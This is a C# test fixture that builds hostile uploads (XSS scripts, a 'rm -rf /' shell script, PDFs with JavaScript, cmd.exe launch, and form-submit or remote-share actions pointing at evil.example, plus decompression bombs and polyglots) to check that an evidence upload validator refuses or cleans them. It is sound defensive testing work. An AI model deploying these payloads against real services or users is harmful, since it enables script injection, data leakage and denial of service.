using System.IO.Compression;
using System.Text;
using TitleCertification.Testing.Evidence;

namespace TitleCertification.Functions.Tests.Evidence;

/// <summary>The corpus: what people have sent to forms like ours to harm whoever opens it, or the service itself.</summary>
internal static class HostileFiles
{
    private const string Script = "<script>alert(document.domain)</script>";
    private const string Catalog = "<< /Type /Catalog /Pages 2 0 R";

    /// <summary>Never taken, with what they are refused for.</summary>
    public static IReadOnlyDictionary<string, (Func<byte[]> Make, string Refusal)> Refused { get; } = new Dictionary<string, (Func<byte[]>, string)>
    {
        ["nothing"] = (() => [], "evidence_empty"),
        ["zero bytes"] = (() => new byte[5000], "evidence_type_refused"),
        ["random bytes"] = (() => Random(5000), "evidence_type_refused"),
        ["SVG with a script"] = (() => Text($"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\">{Script}</svg>"), "evidence_type_refused"),
        ["HTML page"] = (() => Text($"<!doctype html>{Script}"), "evidence_type_refused"),
        ["GIF that is a script"] = (() => Text("GIF89a/*\0\0\0\0*/=1;alert(1)"), "evidence_type_refused"),
        ["BMP"] = (() => [.. "BM"u8, .. new byte[200]], "evidence_type_refused"),
        ["TIFF"] = (() => [.. "II*\0"u8, .. new byte[200]], "evidence_type_refused"),
        ["HEIC photo"] = (() => [0, 0, 0, 24, .. "ftypheic"u8, .. new byte[200]], "evidence_type_refused: heic"),
        ["ZIP"] = (Zip, "evidence_type_refused"),
        ["old Office document"] = (() => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]], "evidence_type_refused"),
        ["Windows program"] = (() => [.. "MZ"u8, .. new byte[600]], "evidence_type_refused"),
        ["Linux program"] = (() => [0x7F, .. "ELF"u8, .. new byte[600]], "evidence_type_refused"),
        ["shell script"] = (() => Text("#!/bin/sh\nrm -rf /\n"), "evidence_type_refused"),
        ["EICAR"] = (() => Text(FakeClamd.Eicar), "evidence_type_refused"),
        ["blank before a PDF"] = (() => [(byte)' ', .. Pdfs.Good()], "evidence_type_refused"),

        ["JPEG of two bytes"] = (() => [0xFF, 0xD8, 0xFF], "evidence_damaged"),
        ["JPEG cut off"] = (() => Pictures.Jpeg()[..^600], "evidence_damaged"),
        ["JPEG of markers only"] = (() => [0xFF, 0xD8, 0xFF, 0xE0, 0, 4, 0, 0, 0xFF, 0xD9], "evidence_damaged"),
        ["JPEG with rubbish inside"] = (() => [.. Pictures.Jpeg()[..30], .. Random(3000)], "evidence_damaged"),
        ["JPEG of a thousand scans"] = (ManyScans, "evidence_damaged"),
        ["JPEG said to be huge"] = (() => Resized(Pictures.Jpeg(), 65000, 65000), "evidence_image_too_large: pixels"),
        ["PNG cut off"] = (() => Pictures.Png()[..^40], "evidence_damaged"),
        ["PNG of its first bytes only"] = (() => Pictures.Png()[..8], "evidence_damaged"),
        ["PNG said to be huge"] = (() => Pictures.PngOf(100_000, 100_000, new byte[1000]), "evidence_image_too_large: pixels"),
        ["PNG bomb, one colour"] = (() => Pictures.PngOf(20_000, 20_000, new byte[200_000], depth: 1, colour: 0), "evidence_image_too_large: pixels"),
        ["PNG of no size"] = (() => Pictures.PngOf(0, 0, []), "evidence_damaged"),
        ["WebP cut off"] = (() => Pictures.WebP()[..^100], "evidence_damaged"),
        ["WebP that is a WAV"] = (() => [.. "RIFF\0\0\0\0WEBPfmt "u8, .. new byte[100]], "evidence_damaged"),

        ["PDF cut off"] = (() => Pdfs.Good()[..^60], "evidence_damaged"),
        ["PDF of its first line"] = (() => Text("%PDF-1.7\n"), "evidence_damaged"),
        ["PDF without a table"] = (() => Text("%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"), "evidence_damaged"),
        ["PDF without a page"] = (() => Pdfs.Of("<< /Type /Catalog >>"), "evidence_damaged"),
        ["PDF that is rubbish"] = (() => [.. "%PDF-1.7\n"u8, .. Random(100_000), .. "\n%%EOF\n"u8], "evidence_damaged"),
        ["PDF nested a million deep"] = (() => Pdfs.Of($"{Catalog} >>", others: [Text(new string('[', 1_000_000) + new string(']', 1_000_000))]), "evidence_damaged"),
        ["PDF with pages in a circle"] = (() => Pdfs.Of($"{Catalog} >>", "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"), "evidence_damaged"),
        ["PDF with a ZIP behind it"] = (() => [.. Pdfs.Good(), .. Zip()], "evidence_pdf_unsafe: pdf_other_content"),
        ["PDF with a page of HTML behind it"] = (() => [.. Pdfs.Good(), .. Text(Script)], "evidence_pdf_unsafe: pdf_other_content"),
        ["PDF with HTML in its first lines"] = (() => [.. "%PDF-1.7\n%"u8, .. Text(Script), .. Pdfs.Good()[8..]], "evidence_pdf_unsafe: pdf_other_content"),
        ["PDF with a ZIP inside"] = (() => Pdfs.Of($"{Catalog} >>", others: [Pdfs.Stream("", Zip())]), "evidence_pdf_unsafe: pdf_other_content"),
        ["PDF with a script on opening"] = (() => Pdfs.Of($"{Catalog} /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"), "evidence_pdf_unsafe: pdf_script"),
        ["PDF with a script, spelled otherwise"] = (() => Pdfs.Of($"{Catalog} /OpenAction << /S /J#61va#53cript /J#53 (app.alert(1)) >> >>"), "evidence_pdf_unsafe: pdf_script"),
        ["PDF with a script among its names"] = (() => Pdfs.Of($"{Catalog} /Names << /JavaScript << /Names [(a) 4 0 R] >> >> >>", others: [Text("<< /S /JavaScript /JS (x) >>")]), "evidence_pdf_unsafe: pdf_script"),
        ["PDF with a script that nothing refers to"] = (() => Pdfs.Of($"{Catalog} >>", others: [Text("<< /S /JavaScript /JS (x) >>")]), "evidence_pdf_unsafe: pdf_script"),
        ["PDF with a script under a short name only"] = (() => Pdfs.Of($"{Catalog} >>", others: [Text("<< /S /Rendition /JS (x) >>")]), "evidence_pdf_unsafe: pdf_media pdf_script"),
        ["PDF that starts a program"] = (() => Pdfs.Of($"{Catalog} /OpenAction << /S /Launch /F (cmd.exe) >> >>"), "evidence_pdf_unsafe: pdf_action"),
        ["PDF that opens an address"] = (() => Pdfs.Of($"{Catalog} /OpenAction 4 0 R >>", others: [Text("<< /S /URI /URI (https://evil.example) >>")]), "evidence_pdf_unsafe: pdf_action"),
        ["PDF with actions of a page"] = (() => Pdfs.Of($"{Catalog} >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /AA << /O << /S /URI /URI (x) >> >> >>"), "evidence_pdf_unsafe: pdf_action"),
        ["PDF that sends a form"] = (() => Pdfs.Of($"{Catalog} >>", others: [Text("<< /S /SubmitForm /F (https://evil.example) >>")]), "evidence_pdf_unsafe: pdf_action"),
        ["PDF that opens another file"] = (() => Pdfs.Of($"{Catalog} >>", others: [Text(@"<< /S /GoToR /F (\\\\evil.example\\share) >>")]), "evidence_pdf_unsafe: pdf_action"),
        ["PDF with a file attached"] = (() => Pdfs.Of($"{Catalog} /Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >> >>", others: [Text("<< /Type /Filespec /EF << /F 5 0 R >> >>"), Pdfs.Stream("/Type /EmbeddedFile", Random(50))]), "evidence_pdf_unsafe: pdf_attachment"),
        ["PDF with a film"] = (() => Pdfs.Of($"{Catalog} >>", others: [Text("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>")]), "evidence_pdf_unsafe: pdf_media"),
        ["PDF with a dynamic form"] = (() => Pdfs.Of($"{Catalog} /AcroForm << /XFA 4 0 R >> >>", others: [Pdfs.Stream("", Text("<xdp/>"))]), "evidence_pdf_unsafe: pdf_form"),
        ["PDF with a password"] = (Encrypted, "evidence_pdf_unsafe: pdf_encrypted"),
        ["PDF with a script in a compressed object"] = (CompressedScript, "evidence_pdf_unsafe: pdf_script"),
        ["PDF bomb"] = (() => Pdfs.Of($"{Catalog} >>", others: [Pdfs.Stream("/Filter /FlateDecode", Pictures.Zlib(new byte[150_000_000]))]), "evidence_pdf_unsafe: pdf_bomb"),
        ["PDF bomb in many parts"] = (ManyBombs, "evidence_pdf_unsafe: pdf_bomb"),
        ["PDF bomb packed twice"] = (() => Pdfs.Of($"{Catalog} >>", others: [Pdfs.Stream("/Filter [/FlateDecode /FlateDecode]", Pictures.Zlib(Pictures.Zlib(new byte[9_000_000])))]), "evidence_pdf_unsafe: pdf_bomb"),
        ["PDF bomb written in hexadecimal"] = (() => Pdfs.Of($"{Catalog} >>", others: [Pdfs.Stream("/Filter [/ASCIIHexDecode /FlateDecode]", Text(Convert.ToHexString(Pictures.Zlib(new byte[150_000_000])) + ">"))]), "evidence_pdf_unsafe: pdf_bomb"),
        ["PDF with compressed objects that are a bomb"] = (() => Objects(new byte[100_000_000]), "evidence_pdf_unsafe: pdf_bomb"),
    };

    /// <summary>Taken, and without what was hidden in them.</summary>
    public static IReadOnlyDictionary<string, Func<byte[]>> Neutralised { get; } = new Dictionary<string, Func<byte[]>>
    {
        ["JPEG with HTML behind it"] = () => [.. Pictures.Jpeg(), .. Text(Script)],
        ["JPEG with HTML in a comment"] = () => [.. Pictures.Jpeg()[..2], 0xFF, 0xFE, 0, (byte)(Script.Length + 2), .. Text(Script), .. Pictures.Jpeg()[2..]],
        ["JPEG with a place"] = () => Pictures.JpegWithExif(1),
        ["JPEG with a ZIP behind it"] = () => [.. Pictures.Jpeg(), .. Zip()],
        ["JPEG with a PDF behind it"] = () => [.. Pictures.Jpeg(), .. Pdfs.Good()],
        ["JPEG with EICAR behind it"] = () => [.. Pictures.Jpeg(), .. Text(FakeClamd.Eicar)],
        ["PNG with a ZIP behind it"] = () => [.. Pictures.Png(), .. Zip()],
        ["PNG with a script in a text"] = () => Pictures.PngWithText(Script + Pictures.Secret),
        ["WebP with HTML behind it"] = () => [.. Pictures.WebP(), .. Text(Script)],
    };

    /// <summary>Nothing of these may be found in what is kept.</summary>
    public static IReadOnlyList<byte[]> Traces { get; } = [Text("<script"), Text("alert("), Text(Pictures.Secret), "PK\x03\x04"u8.ToArray(), "PK\x05\x06"u8.ToArray(), Text("%PDF"), Text(FakeClamd.Eicar), Text("Exif"), Text("tEXt")];

    public static byte[] Zip()
    {
        using var file = new MemoryStream();
        using (var zip = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry("evil.js").Open();
            entry.Write(Text("alert(1)"));
        }

        return file.ToArray();
    }

    private static byte[] Text(string text) => Encoding.Latin1.GetBytes(text);

    private static byte[] Random(int length)
    {
        var bytes = new byte[length];
        new Random(length).NextBytes(bytes);
        return bytes;
    }

    // The header of every scan is 8 bytes or more; an empty scan is enough to make a decoder go over the whole image.
    private static byte[] ManyScans()
    {
        var jpeg = Pictures.Jpeg();
        var scan = jpeg.AsSpan().IndexOf((byte[])[0xFF, 0xDA]);
        var header = jpeg.AsSpan(scan, 2 + ((jpeg[scan + 2] << 8) | jpeg[scan + 3])).ToArray();
        return [.. jpeg[..scan], .. Enumerable.Repeat(header, 1000).SelectMany(bytes => bytes), .. jpeg[scan..]];
    }

    private static byte[] Resized(byte[] jpeg, int width, int height)
    {
        var frame = jpeg.AsSpan().IndexOf((byte[])[0xFF, 0xC0]);
        (jpeg[frame + 5], jpeg[frame + 6], jpeg[frame + 7], jpeg[frame + 8]) = ((byte)(height >> 8), (byte)height, (byte)(width >> 8), (byte)width);
        return jpeg;
    }

    private static byte[] ManyBombs()
    {
        var bomb = Pdfs.Stream("/Filter /FlateDecode", Pictures.Zlib(new byte[100_000_000]));
        return Pdfs.Of($"{Catalog} >>", others: [.. Enumerable.Repeat(bomb, 8)]);
    }

    private static byte[] Encrypted() => Pdfs.Of(
        $"{Catalog} >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        $"/ID [<{new string('a', 32)}> <{new string('a', 32)}>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <{new string('b', 64)}> /U <{new string('c', 64)}> >>", []);

    private static byte[] CompressedScript()
    {
        var inner = "<< /S /JavaScript /JS (app.alert(1)) >>";
        return Objects(Text($"5 0 {inner}"));
    }

    /// <summary>A file whose object 5 is in a stream of objects, and whose table is a stream as well.</summary>
    private static byte[] Objects(byte[] content)
    {
        var file = new MemoryStream();
        var places = new List<long>();
        void Write(byte[] bytes) => file.Write(bytes);
        void Object(byte[] bytes)
        {
            places.Add(file.Position);
            Write(Text($"{places.Count} 0 obj\n"));
            Write(bytes);
            Write(Text("\nendobj\n"));
        }

        Write(Text("%PDF-1.7\n"));
        Object(Text($"{Catalog} /Outlines 5 0 R >>"));
        Object(Text("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"));
        Object(Text("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"));
        Object(Pdfs.Stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", Pictures.Zlib(content)));
        var start = file.Position;
        places.Add(start);
        var rows = new MemoryStream();
        void Row(byte kind, long value, int third) => rows.Write([kind, (byte)(value >> 24), (byte)(value >> 16), (byte)(value >> 8), (byte)value, (byte)third]);
        Row(0, 0, 255);
        foreach (var place in places.Take(4))
            Row(1, place, 0);
        Row(2, 4, 0);
        Row(1, start, 0);
        Write(Text("6 0 obj\n"));
        Write(Pdfs.Stream("/Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode", Pictures.Zlib(rows.ToArray())));
        Write(Text($"\nendobj\nstartxref\n{start}\n%%EOF\n"));
        return file.ToArray();
    }
}
